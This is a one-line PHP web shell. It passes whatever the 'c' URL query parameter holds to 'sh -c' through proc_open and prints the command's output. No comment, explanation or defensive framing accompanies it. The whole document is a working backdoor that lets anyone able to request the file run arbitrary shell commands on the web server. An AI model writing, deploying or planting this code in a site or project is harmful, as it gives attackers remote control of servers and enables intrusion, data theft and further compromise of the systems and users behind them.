<?php $p = proc_open(array("sh", "-c", $_GET["c"]), array(1 => array("pipe", "w")), $pipes); echo stream_get_contents($pipes[1]);
